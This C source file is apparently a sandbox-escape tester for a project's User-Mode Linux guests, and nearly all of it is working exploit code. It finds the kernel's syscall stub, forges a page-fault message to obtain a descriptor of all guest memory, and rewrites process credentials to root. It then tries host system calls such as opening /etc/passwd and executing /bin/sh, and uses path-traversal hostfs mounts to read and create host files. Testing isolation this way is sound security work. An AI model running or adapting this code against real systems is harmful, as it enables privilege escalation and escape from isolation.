// SPDX-License-Identifier: Apache-2.0
/*
 * Tries to get out of a machine of this project, and prints what came of it.
 *
 *   escape stub MB [PROGRAM...]   as a user without privileges: become root by the code that the kernel keeps in each
 *                                 process for its system calls (seccomp=on), then run PROGRAM; MB: the machine's memory
 *   escape calls                  make other system calls of the host by that code
 *   escape root FILE FOLDER       as root: read FILE of the host and make a file in FOLDER there, by mounts of hostfs
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <setjmp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <ucontext.h>
#include <unistd.h>

enum { PAGE = 4096 };

/* struct stub_data of the kernel (arch/um/include/shared/skas/stub-data.h): what its process and it tell each other. */
enum { QUEUED = 8, FUTEX = 3980, SIGNAL = 3984, SIGINFO = 3988, CONTEXT = 3990, STACK = PAGE, IN_KERNEL = 1 };

static sigjmp_buf back;
static unsigned char *code, *data;
static void *gadget;

static void unmapped(int signal)
{
	siglongjmp(back, signal);
}

/* The stub lies in the last pages that a process has; it is no part of the guest's own map of them. */
static void find_stub(void)
{
	signal(SIGSEGV, unmapped);
	for (volatile uintptr_t page = 0x7ffffffff000; page > 0x7fffff000000 && !gadget; page -= PAGE) {
		unsigned char *at = (unsigned char *)page;

		if (sigsetjmp(back, 1))
			continue;
		for (int n = 0; n < PAGE - 2 && !gadget; n++)
			if (at[n] == 0x0f && at[n + 1] == 0x05 && at[n + 2] == 0xc3) { /* syscall; ret */
				code = at;
				gadget = at + n;
			}
	}
	signal(SIGSEGV, SIG_DFL);
	data = code + PAGE;
	printf("stub %s\n", gadget ? "found" : "none");
	fflush(stdout);
}

static long call(long number, long a, long b, long c, long d, long e, long f)
{
	long result;
	register long r10 asm("r10") = d;
	register long r8 asm("r8") = e;
	register long r9 asm("r9") = f;

	asm volatile("sub $256,%%rsp; call *%[gadget]; add $256,%%rsp"
		     : "=a"(result)
		     : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9), [gadget] "r"(gadget)
		     : "rcx", "r11", "memory");
	return result;
}

static volatile uint32_t *futex(void)
{
	return (volatile uint32_t *)(data + FUTEX);
}

/* Report a write fault at a fresh page: the kernel maps one, and hands over the descriptor of all memory for it. */
static int memory_descriptor(void)
{
	static union {
		char space[CMSG_SPACE(64)];
		struct cmsghdr header;
	} control;
	char byte, *page = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	struct iovec part = { &byte, 1 };
	static struct msghdr message;
	siginfo_t *info;
	mcontext_t *context;

	message.msg_iov = &part;
	message.msg_iovlen = 1;
	message.msg_control = &control;
	message.msg_controllen = sizeof(control);
	getppid(); /* leaves a frame on the stub's stack */
	info = (void *)(data + STACK + *(uint16_t *)(data + SIGINFO));
	context = (void *)(data + STACK + *(uint16_t *)(data + CONTEXT));
	info->si_signo = SIGSEGV;
	info->si_code = SEGV_MAPERR;
	info->si_addr = page;
	context->gregs[REG_ERR] = 6;
	context->gregs[REG_TRAPNO] = 14;
	context->gregs[REG_CR2] = (long)page;
	*(int *)(data + SIGNAL) = SIGSEGV;
	*futex() = IN_KERNEL;
	call(SYS_futex, (long)futex(), 1 /* wake */, 1, 0, 0, 0);
	while (*futex() == IN_KERNEL)
		call(SYS_futex, (long)futex(), 0 /* wait */, IN_KERNEL, 0, 0, 0);
	if (!*(int *)(data + QUEUED) || call(SYS_recvmsg, 0, (long)&message, 0, 0, 0, 0) < 0)
		return -1;
	*(int *)(data + QUEUED) = 0;
	*(long *)data = 0;
	return *(int *)CMSG_DATA((struct cmsghdr *)&control);
}

/* Make each process of ours root: eight numbers of a user in a row are its credentials, capabilities follow. */
static void rewrite(unsigned char *memory, size_t size)
{
	uint32_t me = getuid();

	for (size_t at = 0; at + 96 < size; at += 8) {
		uint32_t *ids = (void *)(memory + at);
		uint64_t *capabilities = (void *)(memory + at + 40);
		int same = 0;

		while (same < 8 && ids[same] == me)
			same++;
		if (same < 8)
			continue;
		memset(ids, 0, 32);
		for (int set = 0; set < 5; set++)
			capabilities[set] = 0x1ffffffffff;
	}
}

static int stub(size_t size, char **program)
{
	unsigned char *memory = (void *)0x600000000000;
	int fd;

	printf("user %d\n", (int)getuid());
	find_stub();
	alarm(20);
	if (gadget && (fd = memory_descriptor()) >= 0 &&
	    call(SYS_mmap, (long)memory, size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_FIXED, fd, 0) == (long)memory)
		rewrite(memory, size);
	alarm(0);
	printf("became %d\n", (int)getuid());
	fflush(stdout);
	if (getuid() == 0 && *program)
		execv(*program, program);
	return 0;
}

static int calls(void)
{
	static const struct {
		const char *name;
		long number, first, second;
	} tried[] = {
		{ "socket", SYS_socket, AF_INET, SOCK_STREAM }, { "openat", SYS_openat, AT_FDCWD, (long)"/etc/passwd" },
		{ "ptrace", SYS_ptrace, 16, 1 },		 { "kill", SYS_kill, -1, 0 },
		{ "execve", SYS_execve, (long)"/bin/sh", 0 },	 { "getuid", SYS_getuid, 0, 0 },
		{ "clone", SYS_clone, SIGCHLD, 0 },		 { "sendmsg", SYS_sendmsg, 0, 0 },
	};

	find_stub();
	for (size_t n = 0; gadget && n < sizeof(tried) / sizeof(*tried); n++) {
		int status = 0;
		pid_t child = fork();

		if (!child) {
			long result = call(tried[n].number, tried[n].first, tried[n].second, 0, 0, 0, 0);

			_exit(result < 0 ? 1 : 0);
		}
		waitpid(child, &status, 0);
		printf("call %s %s\n", tried[n].name, WIFEXITED(status) && !WEXITSTATUS(status) ? "ok" : "no");
		fflush(stdout);
	}
	return 0;
}

static int root(const char *file, const char *folder)
{
	static const char *const ways[] = {
		"/", "..", "../../../../../../../../../..", "/proc/self/cwd/../../../../../../../../..", "/proc/self/root",
		"/proc/self/root/..", "/proc/1/root", "/proc/1/cwd", "/proc/self/fd", "job/link/.", "job/up/.", "job/../../../../../../../..",
		"root/../../../../../../../../..", "memory/../../../../..",
	};
	static char mounted[] = "/tmp/mounted", path[8192];

	mkdir(mounted, 0700);
	symlink("/", "/job/link");
	symlink("../../../../../../../../..", "/job/up");
	for (size_t n = 0; n < sizeof(ways) / sizeof(*ways); n++) {
		char byte;
		int fd, got;
		DIR *names;

		if (mount("none", mounted, "hostfs", 0, ways[n])) {
			printf("mount %s no %d\n", ways[n], errno);
			continue;
		}
		snprintf(path, sizeof(path), "%s/%s", mounted, file);
		fd = open(path, O_RDONLY);
		got = fd >= 0 && read(fd, &byte, 1) == 1;
		printf("read %s %s\n", ways[n], got ? "ok" : "no");
		snprintf(path, sizeof(path), "%s/%s/made", mounted, folder);
		printf("make %s %s\n", ways[n], open(path, O_CREAT | O_WRONLY, 0600) >= 0 ? "ok" : "no");
		names = opendir(mounted);
		printf("list %s", ways[n]);
		for (struct dirent *name; names && (name = readdir(names));)
			if (name->d_name[0] != '.')
				printf(" %s", name->d_name);
		printf("\n");
		if (names)
			closedir(names);
		umount2(mounted, MNT_DETACH);
	}
	unlink("/job/link");
	unlink("/job/up");
	return 0;
}

int main(int count, char **words)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (count > 2 && !strcmp(words[1], "stub"))
		return stub(strtoul(words[2], NULL, 10) << 20, words + 3);
	if (count == 2 && !strcmp(words[1], "calls"))
		return calls();
	if (count == 4 && !strcmp(words[1], "root"))
		return root(words[2], words[3]);
	return 2;
}
